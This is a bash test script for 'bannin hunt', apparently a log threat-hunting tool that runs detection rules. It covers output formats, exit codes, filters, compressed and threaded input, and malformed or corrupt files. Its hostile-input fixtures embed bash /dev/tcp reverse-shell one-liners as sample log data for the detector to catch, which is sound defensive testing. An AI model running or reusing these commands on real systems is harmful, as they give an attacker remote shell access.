#!/usr/bin/env bash
# test_hunt.sh - `bannin hunt` end to end: the demo samples, every output mode, exit codes,
# filters, compressed input, threads vs one thread on a split file, and hostile input (a
# 100 MB line, binary garbage, invalid UTF-8, truncated and corrupt EVTX, a corrupt gzip):
# clear messages naming file and position, the run goes on, the summary counts the skips.
set -uo pipefail
build=${1:?usage: test_hunt.sh BUILD_DIR}
bannin="$build/bannin"
corpora=${BN_CORPORA:-../shared/corpora}
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
fails=0
passes=0

ok() { passes=$((passes + 1)); echo "ok   $*"; }
bad() { fails=$((fails + 1)); echo "FAIL $*"; }
check() { # check DESCRIPTION COMMAND...
  local what=$1; shift
  if "$@"; then ok "$what"; else bad "$what"; fi
}

# --- the demo: our rules over the sample intrusion ---
"$bannin" hunt --no-progress --json -r rules/ samples/ > "$tmp/demo.json" 2> "$tmp/demo.err"
rc=$?
check "demo exits 1 (hits)" test "$rc" -eq 1
check "demo output is one JSON object per line" python3 - "$tmp/demo.json" <<'PY'
import json, sys
n = 0
for line in open(sys.argv[1]):
    a = json.loads(line)
    assert "rule" in a and a["rule"]["id"] and a["rule"]["level"]
    if "correlation" not in a:
        assert "event" in a and "source" in a
        assert any(t.startswith("attack.t") for t in a["rule"]["tags"]), a["rule"]["title"]
    n += 1
assert n >= 20, n
PY
for title in "Reverse Shell Via Bash /dev/tcp Redirection" "Shell History Cleared Or Disabled" \
             "SSH Brute Force Against One Host" "Crontab Installed Or Edited From The Command Line"; do
  check "demo finds '$title'" grep -q "\"title\":\"$title\"" "$tmp/demo.json"
done
check "demo: nothing fires on the benign hosts" bash -c "! grep -qE '\"host\":\"(build-01)\"' '$tmp/demo.json'"
check "demo summary lists the non-log files" grep -q "are not logs" "$tmp/demo.err"

# --- table, csv, min-level, include/exclude ---
"$bannin" hunt --no-progress --color never -r rules/ samples/linux-intrusion.ndjson > "$tmp/table.txt" 2>/dev/null
check "table has a header and rows" bash -c "head -1 '$tmp/table.txt' | grep -q '^time' && [ \$(wc -l < '$tmp/table.txt') -gt 10 ]"
"$bannin" hunt --no-progress --csv -r rules/ samples/linux-intrusion.ndjson > "$tmp/out.csv" 2>/dev/null
check "csv header and parseable rows" python3 - "$tmp/out.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1])))
assert rows[0] == ["time", "level", "rule_id", "rule_title", "host", "file", "record", "details"], rows[0]
assert len(rows) > 10 and all(len(r) == 8 for r in rows)
PY
n_all=$("$bannin" hunt --no-progress -q --json -r rules/ samples/linux-intrusion.ndjson | wc -l)
n_high=$("$bannin" hunt --no-progress -q --json --min-level high -r rules/ samples/linux-intrusion.ndjson | wc -l)
check "--min-level high keeps fewer alerts ($n_high < $n_all)" test "$n_high" -lt "$n_all" -a "$n_high" -gt 0
n_inc=$("$bannin" hunt --no-progress -q --json --include 'attack.t1070*' -r rules/ samples/linux-intrusion.ndjson | wc -l)
check "--include by tag selects only those rules ($n_inc)" bash -c "[ $n_inc -gt 0 ] && [ $n_inc -lt $n_all ]"
n_exc=$("$bannin" hunt --no-progress -q --json --exclude '*History*' -r rules/ samples/linux-intrusion.ndjson | wc -l)
check "--exclude by title drops rules ($n_exc < $n_all)" test "$n_exc" -lt "$n_all"
n_late=$("$bannin" hunt --no-progress -q --json --from 2026-11-25T09:45:00Z -r rules/ samples/linux-intrusion.ndjson | wc -l)
check "--from drops earlier events ($n_late < $n_all)" bash -c "[ $n_late -gt 0 ] && [ $n_late -lt $n_all ]"

# --- exit codes ---
printf '{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/ls","CommandLine":"ls -la"}\n' > "$tmp/benign.ndjson"
"$bannin" hunt --no-progress -q -r rules/ "$tmp/benign.ndjson" > /dev/null 2>&1
check "no hits exits 0" test $? -eq 0
"$bannin" hunt --no-progress -q -r rules/ "$tmp/does-not-exist.log" > /dev/null 2>&1
check "missing input exits 2" test $? -eq 2
"$bannin" hunt --no-progress -q -r "$tmp/no-rules-here" "$tmp/benign.ndjson" > /dev/null 2>&1
check "no rules exits 2" test $? -eq 2
"$bannin" hunt > /dev/null 2>&1
check "usage error exits 2" test $? -eq 2

# --- compressed input gives the same alerts ---
gzip -c samples/linux-intrusion.ndjson > "$tmp/s.ndjson.gz"
zstd -q -c samples/linux-intrusion.ndjson > "$tmp/s.ndjson.zst"
n_gz=$("$bannin" hunt --no-progress -q --json -r rules/ "$tmp/s.ndjson.gz" | wc -l)
n_zst=$("$bannin" hunt --no-progress -q --json -r rules/ "$tmp/s.ndjson.zst" | wc -l)
n_plain=$("$bannin" hunt --no-progress -q --json -r rules/ samples/linux-intrusion.ndjson | wc -l)
check "gzip input: same alert count ($n_gz)" test "$n_gz" -eq "$n_plain"
check "zstd input: same alert count ($n_zst)" test "$n_zst" -eq "$n_plain"

# --- a file split across threads gives the same alerts and file line numbers as one thread ---
python3 - "$tmp/big.ndjson" <<'PY'
import sys
src = open("samples/linux-intrusion.ndjson").read().splitlines()
with open(sys.argv[1], "w") as f:
    n = 0
    while f.tell() < 40 * 1024 * 1024:
        for line in src:
            f.write(line + "\n")
            n += 1
            if n % 100003 == 0:
                f.write('{"broken": \n')
PY
"$bannin" hunt --no-progress --json -j1 -r rules/ "$tmp/big.ndjson" > "$tmp/j1.json" 2> "$tmp/j1.err"
"$bannin" hunt --no-progress --json -j2 -r rules/ "$tmp/big.ndjson" > "$tmp/j2.json" 2> "$tmp/j2.err"
check "split file: -j2 equals -j1 (alerts and lines)" python3 - "$tmp/j1.json" "$tmp/j2.json" <<'PY'
import json, sys
def load(p):
    return sorted((a.get("source", {}).get("line", 0), a["rule"]["id"], a["time"]) for a in map(json.loads, open(p)))
a, b = load(sys.argv[1]), load(sys.argv[2])
assert a == b and len(a) > 1000, (len(a), len(b))
PY
check "split file: the broken lines are reported at their file lines" bash -c \
  "grep -q 'big.ndjson:100004:' '$tmp/j2.err' && grep -q 'big.ndjson:100004:' '$tmp/j1.err'"

# --- hostile input ---
{
  printf '{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1","UtcTime":"2026-11-25 10:00:00.000"}\n'
  python3 -c 'import sys; sys.stdout.write("{\"x\":\"" + "A" * (100 * 1024 * 1024) + "\"}\n")'
  printf '{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/10.0.0.2/4444 0>&1 \xff\xfe","UtcTime":"2026-11-25 10:00:01.000"}\n'
  head -c 4096 /dev/urandom | tr -d '\n'; printf '\n'
  printf '{"Channel":"Linux-Sysmon/Operational","EventID":1,"Image":"/usr/bin/bash","CommandLine":"bash -i >& /dev/tcp/10.0.0.3/4444 0>&1","UtcTime":"2026-11-25 10:00:02.000"}\n'
} > "$tmp/hostile.ndjson"
"$bannin" hunt --no-progress --json -f ndjson -r rules/ "$tmp/hostile.ndjson" > "$tmp/hostile.json" 2> "$tmp/hostile.err"
rc=$?
check "hostile ndjson: run completes with hits (exit $rc)" test "$rc" -eq 1
check "hostile ndjson: all three good records read around the bad ones" \
  test "$(grep -c 'Reverse Shell Via Bash' "$tmp/hostile.json")" -eq 3
check "hostile ndjson: the 100 MB line is skipped as too big, naming file:line" \
  grep -qE 'hostile.ndjson:2(:[0-9]+)?: .*(longer than|limit|too (big|long))' "$tmp/hostile.err"
check "hostile ndjson: the garbage line is skipped with a position" grep -qE 'hostile.ndjson:4(:[0-9]+)?: ' "$tmp/hostile.err"
check "hostile ndjson: summary counts the skipped records" grep -qE 'skipped +2 records' "$tmp/hostile.err"
check "hostile ndjson: invalid UTF-8 becomes U+FFFD in valid JSON output" python3 -c "
import json
rows = [json.loads(l) for l in open('$tmp/hostile.json', encoding='utf-8')]
assert any('\ufffd' in json.dumps(r, ensure_ascii=False) for r in rows)"

head -c 3000 /dev/urandom > "$tmp/garbage.bin"
"$bannin" hunt --no-progress -q -r rules/ "$tmp/garbage.bin" > /dev/null 2> "$tmp/garbage.err"
rc=$?
check "binary garbage named explicitly: clear error, exit 2" bash -c "[ $rc -eq 2 ] && grep -q 'garbage.bin' '$tmp/garbage.err'"

printf 'not gzip at all after the magic' | cat <(printf '\x1f\x8b\x08\x00') - > "$tmp/corrupt.gz"
"$bannin" hunt --no-progress -q -r rules/ "$tmp/corrupt.gz" > /dev/null 2> "$tmp/corrupt.err"
check "corrupt gzip: error names the file" grep -q 'corrupt.gz' "$tmp/corrupt.err"

cat > "$tmp/logon.yml" <<'YML'
title: Any Successful Logon
id: 5b0e6c1e-0d8a-4f41-9d4e-2f0a4f1d7c11
status: test
logsource:
  product: windows
  service: security
detection:
  selection:
    EventID: 4624
  condition: selection
level: informational
YML
if [ -d "$corpora/evtx" ]; then
  ev=$corpora/evtx/chainsaw/security_sample.evtx
  head -c 40000 "$ev" > "$tmp/truncated.evtx"
  "$bannin" hunt --no-progress --json -r "$tmp/logon.yml" "$tmp/truncated.evtx" > "$tmp/trunc.json" 2> "$tmp/trunc.err"
  check "truncated EVTX: records before the cut are read, the cut is reported" \
    bash -c "[ \$(wc -l < '$tmp/trunc.json') -ge 1 ] && grep -q 'truncated.evtx' '$tmp/trunc.err'"
  python3 - "$ev" "$tmp/corrupt.evtx" <<'PY'
import sys
b = bytearray(open(sys.argv[1], "rb").read())
for i in range(4096 + 600, min(len(b), 4096 + 60000), 97):
    b[i] ^= 0x5a
open(sys.argv[2], "wb").write(b)
PY
  "$bannin" hunt --no-progress -r "$tmp/logon.yml" "$tmp/corrupt.evtx" > /dev/null 2> "$tmp/cevtx.err"
  rc=$?
  check "corrupt EVTX: no crash (exit $rc), damage reported" bash -c "[ $rc -le 2 ] && grep -qiE 'corrupt.evtx|skipped' '$tmp/cevtx.err'"
  n=$("$bannin" hunt --no-progress -q --json -r "$tmp/logon.yml" "$ev" | wc -l)
  check "a 4624 rule finds the logons in chainsaw's security_sample.evtx ($n)" test "$n" -ge 2
else
  echo "skip EVTX cases: $corpora/evtx is absent"
fi

# --- rule checks ---
"$bannin" rules test rules/ > "$tmp/rt.txt" 2>&1
check "rules test: every shipped rule passes its samples" bash -c "grep -q ' 0 failed' '$tmp/rt.txt'"
"$bannin" rules check rules/ > "$tmp/rc.txt" 2>&1
check "rules check: our rules all load" bash -c "grep -qE '^[0-9]+ rules: [0-9]+ ok, 0 unsupported, 0 errors' '$tmp/rc.txt'"

echo "test_hunt: $passes passed, $fails failed"
[ "$fails" -eq 0 ]
